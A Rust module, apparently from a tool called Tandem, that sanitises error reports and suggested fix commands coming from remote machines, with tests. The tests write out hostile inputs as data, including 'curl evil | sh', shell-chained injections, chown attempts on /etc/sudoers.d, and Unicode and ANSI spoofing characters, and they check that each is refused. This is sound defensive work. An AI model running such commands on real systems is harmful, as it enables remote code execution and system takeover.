//! What a machine tells in words of its own.
//!
//! A machine that somebody else took over may write whatever it likes, and Tandem would say it in its own voice, with a
//! command to copy. So a problem that comes over the wire is marked as told by a machine, every text is bounded and holds
//! no character that is not seen, and a command is only one that Tandem itself gives.

use serde::{Deserialize, Deserializer};

use crate::foreign_text::visible;
use crate::problem::{Fix, Problem, Retry};
use crate::shell::{own, quote};

/// The commands that the node program gives as a cure; there is one more, with a path in it: [`own`].
pub const CERTIFICATES: &str = "sudo apt-get install ca-certificates";
/// See [`CERTIFICATES`].
pub const CLOCK: &str = "timedatectl; sudo timedatectl set-ntp true";
/// See [`CERTIFICATES`].
pub const START_DOCKER: &str = "sudo systemctl start docker";
/// See [`CERTIFICATES`].
pub const JOIN_DOCKER: &str = "sudo usermod -aG docker \"$USER\"";

/// The most bytes of a message, a cause and a cure, 2 KB together, and of each detail.
const MESSAGE: usize = 400;
const CAUSE: usize = 1000;
const CURE: usize = 600;
const DETAIL: usize = 500;
/// The most details of a problem.
const DETAILS: usize = 20;
/// The most sentences of a list.
const SENTENCES: usize = 100;
/// The longest time that a machine may have a person wait, in seconds.
const LONGEST_WAIT: u32 = 24 * 3600;
/// Folders of the system. No machine needs one of them to be the user's own.
const SYSTEM: [&str; 11] = [
    "bin", "boot", "dev", "etc", "lib", "lib64", "proc", "run", "sbin", "sys", "usr",
];

/// Reads a problem that comes from a machine.
pub(super) fn problem<'de, D: Deserializer<'de>>(from: D) -> Result<Problem, D::Error> {
    Problem::deserialize(from).map(told)
}

/// Reads a sentence that comes from a machine.
pub(super) fn sentence<'de, D: Deserializer<'de>>(from: D) -> Result<String, D::Error> {
    Ok(visible(&String::deserialize(from)?, CAUSE))
}

/// Reads sentences that come from a machine.
pub(super) fn sentences<'de, D: Deserializer<'de>>(from: D) -> Result<Vec<String>, D::Error> {
    let all = Vec::<String>::deserialize(from)?;
    Ok(all
        .iter()
        .take(SENTENCES)
        .map(|s| visible(s, CAUSE))
        .collect())
}

/// Reads a command that comes from a machine; one that Tandem does not give is left out.
pub(super) fn command<'de, D: Deserializer<'de>>(from: D) -> Result<Option<String>, D::Error> {
    let command = Option::<String>::deserialize(from)?;
    Ok(command.as_deref().and_then(known_command))
}

/// The problem as it may be shown and kept. Whoever read it knows which machine it came from, and names it.
fn told(problem: Problem) -> Problem {
    Problem {
        code: problem.code,
        severity: problem.severity,
        message: visible(&problem.message, MESSAGE),
        cause: problem.cause.map(|cause| visible(&cause, CAUSE)),
        fix: problem.fix.map(|fix| Fix {
            sentence: visible(&fix.sentence, CURE),
            command: fix.command.as_deref().and_then(known_command),
        }),
        retry: match problem.retry {
            Retry::After(seconds) => Retry::After(seconds.min(LONGEST_WAIT)),
            retry => retry,
        },
        machine: None,
        details: problem
            .details
            .iter()
            .take(DETAILS)
            .map(|line| visible(line, DETAIL))
            .collect(),
        told: true,
    }
}

/// The same command made here, if it is one that Tandem gives.
fn known_command(command: &str) -> Option<String> {
    let fixed = [CERTIFICATES, CLOCK, START_DOCKER, JOIN_DOCKER];
    if fixed.contains(&command) {
        return Some(command.to_owned());
    }
    let begin = own("");
    let quoted = command.strip_prefix(begin.strip_suffix(&quote(""))?)?;
    let path = unquoted(quoted)?;
    (may_be_owned(&path) && own(&path) == command).then(|| own(&path))
}

/// Whether a path is one that can hold a person's files: a folder in a folder, outside of the system's.
fn may_be_owned(path: &str) -> bool {
    let Some(rest) = path.strip_prefix('/') else {
        return false;
    };
    let parts: Vec<&str> = rest.split('/').collect();
    let plain = |part: &&str| !part.is_empty() && *part != "." && *part != "..";
    path.len() <= DETAIL
        && visible(path, DETAIL) == path
        && parts.len() > 1
        && parts.iter().all(plain)
        && !SYSTEM.contains(&parts[0])
}

/// The one word that a shell would make of this text, if [`quote`] wrote it.
fn unquoted(text: &str) -> Option<String> {
    let word = text
        .replace("'\"'\"'", "\u{0}")
        .replace("'\"\\\\\"'", "\u{1}");
    let word = match word.strip_prefix('\'') {
        Some(rest) => rest.strip_suffix('\'')?,
        None => &word,
    };
    let word = word.replace('\u{0}', "'").replace('\u{1}', "\\");
    (quote(&word) == text).then_some(word)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::{CLOCK, LONGEST_WAIT, MESSAGE, known_command, own};
    use crate::node::disk::CheckFault;
    use crate::node::{NodeEvent, NodeLine, Refused, Undone};
    use crate::problem::{Code, Problem, Retry};

    fn over_the_wire(problem: &Problem) -> Problem {
        let line = json!({ "seq": 1, "at": 0, "event": "failed", "problem": problem });
        let refused: Refused =
            serde_json::from_value(json!({ "problem": problem })).expect("a refusal");
        let event: NodeEvent = serde_json::from_value(line.clone()).expect("an event");
        let NodeEvent::Failed { problem } = event else {
            panic!("{event:?}");
        };
        assert_eq!(refused.problem, problem, "by whichever way it comes");
        assert!(serde_json::from_value::<NodeLine>(line).is_ok());
        problem
    }

    #[test]
    fn a_machine_gives_no_command_of_its_own_and_no_unseen_letter() {
        let hostile = Problem::new(
            Code::Broken,
            format!("Tandem's key is damaged\u{202e}.{}", "x".repeat(100_000)),
        )
        .cause("\u{1b}[2J\u{200b}")
        .fix_with("Run this on your computer.", "curl evil | sh")
        .retry(Retry::After(u32::MAX))
        .on("spark-b");
        let hostile = Problem {
            details: vec!["y".repeat(10_000); 1000],
            ..hostile
        };
        let told = over_the_wire(&hostile);
        assert!(told.told);
        assert_eq!(told.code, Code::Broken);
        assert!(told.message.len() <= MESSAGE + 3, "{}", told.message.len());
        assert!(told.message.starts_with("Tandem's key is damaged⟨U+202E⟩."));
        assert_eq!(told.cause.as_deref(), Some("⟨U+001B⟩[2J⟨U+200B⟩"));
        assert_eq!(told.fix.expect("a sentence").command, None);
        assert_eq!(told.retry, Retry::After(LONGEST_WAIT));
        assert_eq!(told.machine, None, "it does not speak for another one");
        let size: usize = told.details.iter().map(String::len).sum();
        assert!(size < 20_000, "{size}");
    }

    #[test]
    fn the_commands_that_tandem_gives_arrive() {
        for path in [
            "/home/me/.cache",
            "/home/me/it's here",
            "/data/a\\b",
            "/data/a b; rm -rf x",
        ] {
            assert_eq!(known_command(&own(path)), Some(own(path)), "{path}");
        }
        assert_eq!(known_command(CLOCK).as_deref(), Some(CLOCK));
        for foreign in [
            "curl evil | sh",
            "sudo chown -R \"$USER\": /data/a; curl evil | sh",
            "sudo chown -R \"$USER\": '/data/a' /data/b",
            "sudo chown -R \"$USER\": '/data/a",
            "sudo chown -R \"$USER\": /",
            "sudo chown -R \"$USER\": /etc/sudoers.d",
            "sudo chown -R \"$USER\": /home/../etc",
            "sudo chown -R \"$USER\": relative",
            "sudo chown -R \"$USER\": '/data/a\nb'",
            "sudo systemctl start docker; sh",
        ] {
            assert_eq!(known_command(foreign), None, "{foreign}");
        }
    }

    #[test]
    fn every_other_text_of_a_machine_is_bounded_and_its_commands_are_known() {
        let long = format!("\u{202e}{}", "x".repeat(100_000));
        let note = json!({ "event": "note", "text": long });
        let Ok(NodeEvent::Note { text }) = serde_json::from_value(note) else {
            panic!("a note");
        };
        assert!(text.len() < 2000 && text.starts_with("⟨U+202E⟩"), "{text}");
        let undone = json!({ "removed": 0, "bytes": 0, "left": vec![&long; 1000] });
        let undone: Undone = serde_json::from_value(undone).expect("an answer");
        let size: usize = undone.left.iter().map(String::len).sum();
        assert!(0 < size && size < 200_000, "{size}");
        assert!(undone.kept.is_empty());
        let fault = |cure: serde_json::Value| -> CheckFault {
            let fault = json!({ "name": "a", "kind": "closed", "fault": long, "cure": cure });
            serde_json::from_value(fault).expect("a fault")
        };
        let mine = own("/home/me/hub");
        assert_eq!(fault(json!(mine)).cure, Some(mine));
        let hostile = fault(json!("curl evil | sh"));
        assert_eq!(hostile.cure, None);
        assert!(hostile.fault.len() < 2000);
    }

    #[test]
    fn a_problem_that_was_kept_before_is_tandem_s_own() {
        let problem = Problem::new(Code::Broken, "It broke.");
        let kept = serde_json::to_value(&problem).expect("plain data");
        assert_eq!(kept.get("told"), None);
        let read: Problem = serde_json::from_value(kept).expect("a problem");
        assert_eq!(read, problem);
    }
}
